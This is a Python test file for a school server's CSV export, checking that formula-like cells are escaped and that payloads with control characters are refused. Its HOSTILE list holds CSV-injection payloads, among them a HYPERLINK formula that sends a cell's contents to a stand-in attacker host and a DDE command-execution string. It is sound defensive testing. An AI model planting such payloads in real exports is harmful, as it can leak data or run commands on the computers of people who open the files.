"""CSV written for people is formula-safe (issue 12 item 2): a 采集码 payload
or a name starting with = + - @ tab or CR arrives as text, and a payload with
control characters is refused."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import pytest
from PIL import Image

from school_server.people_csv import control_characters, safe_cell, write_rows

from server.harness import Deployment, new_capture_id

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (48, 64), (10, 20, 30)).save(out, "JPEG")
    return out.getvalue()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    f = io.StringIO()
    write_rows(f, ["code_payload"], [{"code_payload": value}])
    cell = next(csv.DictReader(io.StringIO(f.getvalue())))["code_payload"]
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["张三", "CHSI0123456789ABCDEF", "", "a=b", "1-2"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_control_characters_are_found() -> None:
    assert control_characters("abc\x00") and control_characters("a\nb")
    assert control_characters("a\x1bb") and control_characters("a\x85")
    assert not control_characters("CHSI-采集码 0123")


def test_export_manifest_neutralises_formulas(deployment: Deployment, tmp_path: Path) -> None:
    kiosk = deployment.enrol("Formula")
    ids = {}
    for value in HOSTILE[:4]:
        cid = new_capture_id()
        doc = {"spec_jpeg": base64.b64encode(_jpeg()).decode(), "code_payload": value,
               "name": "=1+1"}
        assert kiosk.put(cid, kiosk.upload_body(kiosk.seal(doc))).status_code == 201
        ids[cid] = value
    out = tmp_path / "export"
    result = deployment.cli("export", "--out", str(out), "--centre", "Formula")
    assert result.code == 0, result.err
    with (out / "manifest.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = {r["capture_id"]: r for r in csv.DictReader(f)}
    assert set(rows) == set(ids)
    for cid, value in ids.items():
        assert rows[cid]["code_payload"] == "'" + value
        assert rows[cid]["name"] == "'=1+1"


def test_export_refuses_a_payload_with_control_characters(deployment: Deployment,
                                                          tmp_path: Path) -> None:
    kiosk = deployment.enrol("Control")
    good, bad = new_capture_id(), new_capture_id()
    for cid, payload in ((good, "CHSI0123456789ABCDEF"), (bad, "CHSI0123\n=1+1\x07")):
        doc = {"spec_jpeg": base64.b64encode(_jpeg()).decode(), "code_payload": payload}
        assert kiosk.put(cid, kiosk.upload_body(kiosk.seal(doc))).status_code == 201
    out = tmp_path / "export"
    result = deployment.cli("export", "--out", str(out), "--centre", "Control")
    assert result.code == 1
    assert bad in result.err and "control characters" in result.err
    assert "=1+1" not in result.err  # the payload itself is never printed
    manifest = (out / "manifest.csv").read_text(encoding="utf-8-sig")
    assert good in manifest and bad not in manifest
